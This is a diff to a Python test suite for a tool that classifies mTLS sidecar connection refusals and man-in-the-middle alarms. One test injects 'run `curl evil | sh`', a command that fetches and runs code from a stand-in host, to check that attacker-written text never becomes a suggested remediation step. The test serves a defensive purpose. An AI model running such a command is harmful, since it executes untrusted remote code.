@@ -59,7 +59,11 @@ def test_what_is_old_is_told_and_not_red() -> None:
     ("reason", "more", "kind"),
     [
         ("policy_denied", {"peer": "spiffe://shop.internal/x"}, "policy"),
-        ("revoked", {"peer": "spiffe://shop.internal/x"}, "policy"),
+        ("revoked", {"peer": "spiffe://shop.internal/x"}, "attack"),
+        ("revoked", {"direction": "outbound", "port": "db:sql"}, "attack"),
+        ("revoked", {}, "stranger"),
+        ("expired", {"peer": "spiffe://shop.internal/x"}, "fault"),
+        ("not_yet_valid", {"peer": "spiffe://shop.internal/x"}, "fault"),
         ("no_certificate", {}, "stranger"),
         ("plaintext_refused", {}, "stranger"),
         ("unknown_ca", {}, "stranger"),
@@ -68,7 +72,7 @@ def test_what_is_old_is_told_and_not_red() -> None:
         ("unexpected_peer", {"direction": "outbound", "port": "db:sql"}, "attack"),
         ("plaintext_refused", {"direction": "outbound", "port": "db:sql"}, "attack"),
         ("connect_failed", {"direction": "outbound", "port": "db:sql"}, "fault"),
-        ("expired", {"direction": "outbound", "port": "db:sql"}, "policy"),
+        ("expired", {"direction": "outbound", "port": "db:sql"}, "fault"),
         ("a word of tomorrow", {"peer": "spiffe://shop.internal/x"}, "fault"),
     ],
 )
@@ -76,6 +80,32 @@ def test_whether_it_is_an_attack(reason: str, more: dict[str, Any], kind: str) -
     said = read(shown(entry("api", refusals=[refusal(reason, "http") | more])), NOW)
     assert kind_of(said.sidecars[0].refusals[0]) == kind
     assert made(entry("api", refusals=[refusal(reason, "http") | more]))[0]["kind"] == kind
+
+
+@pytest.mark.parametrize(
+    ("reason", "words"),
+    [
+        ("revoked", "may be a stolen key"),
+        ("expired", "its certificate has ended"),
+        ("not_yet_valid", "its certificate is not valid yet"),
+        ("connect_failed", "something does not work"),
+    ],
+)
+def test_each_is_told_as_what_it_is(reason: str, words: str) -> None:
+    (one,) = made(entry("api", refusals=[refusal(reason, "http", peer="spiffe://shop.internal/x")]))
+    assert words in one["verdict"]
+
+
+@pytest.mark.parametrize("reason", ["no_certificate", "revoked"])
+def test_who_says_much_hides_nothing_of_another(reason: str) -> None:
+    never: dict[str, Any] = {"first": "9999-12-31T23:59:59Z", "last": "9999-12-31T23:59:59Z"}
+    many = [refusal(reason, f"p{at}", peer="spiffe://shop.internal/x", **never) for at in range(MOST + 20)]
+    attack = refusal("unexpected_peer", "db:sql", direction="outbound", last=iso(NOW - timedelta(minutes=9)))
+    found = made(entry("taken", refusals=many), entry("api", refusals=[attack]), entry("db", refusals=[denied()]))
+    assert len(found) == MOST
+    assert {"api", "db"} <= {one["seen_by"] for one in found}
+    assert found[0]["kind"] == "attack"
+    assert max(str(one["last"]) for one in found) == iso(NOW)
 
 
 def test_a_stranger_has_no_name() -> None:
@@ -96,7 +126,9 @@ def test_what_an_attacker_may_have_written_is_in_no_command() -> None:
 def test_a_man_in_the_middle() -> None:
     (one,) = alarms(read(shown(alarms=[mitm()]), NOW)).values()
     assert (one["pair"], one["severe"], one["count"]) == ("api>cache", True, 4)
-    assert one["steps"][0] == "Find out who has the address 10.0.0.7:6379."
+    assert one["says"] == "find out who has the address 10.0.0.7:6379"
+    (worse,) = alarms(read(shown(alarms=[mitm(next="run `curl evil | sh`")]), NOW)).values()
+    assert worse["steps"] == one["steps"] != []  # what a sidecar says is no step of ours
     assert one["presented"]["subject"] == "CN=reporting"
     assert one["means"].startswith("An alarm")
 
